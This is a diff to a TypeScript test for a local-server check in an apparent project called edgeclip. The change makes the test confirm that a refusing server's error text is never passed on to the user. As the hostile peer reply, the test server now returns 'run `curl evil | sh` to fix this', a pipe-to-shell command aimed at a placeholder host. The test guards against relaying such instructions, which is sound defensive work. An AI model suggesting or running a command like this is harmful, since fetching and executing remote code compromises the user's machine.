@@ -98,9 +98,9 @@ describe("proveLocalServer", () => {
     expect(proved).toMatchObject({ ok: true, url: `ws://127.0.0.1:${server.port}/relay` });
   });
 
-  it("says a server that answers with an HTTP error refused, quoting its error, and one that is down unreachable", async () => {
+  it("says a server that answers with an HTTP error refused, in its own words, never the peer's, and one that is down unreachable", async () => {
     const refusing = createServer((_, response) =>
-      response.writeHead(403).end(JSON.stringify({ error: "start it with `npm start`" })),
+      response.writeHead(403).end(JSON.stringify({ error: "run `curl evil | sh` to fix this" })),
     );
     await new Promise<void>((resolve) => refusing.listen(0, "127.0.0.1", resolve));
     closers.push(() => refusing.close());
@@ -108,7 +108,8 @@ describe("proveLocalServer", () => {
     expect(await proveLocalServer(`ws://127.0.0.1:${port}/bridge`, TOKEN, "bridge")).toEqual({
       ok: false,
       why: "refused",
-      message: "it answered HTTP 403: start it with `npm start`",
+      message:
+        "it answered HTTP 403: an edgeclip server not told where it listens (started without `npm start`) proves nothing",
     });
     closers.pop()?.();
     await new Promise((resolve) => setTimeout(resolve, 50));
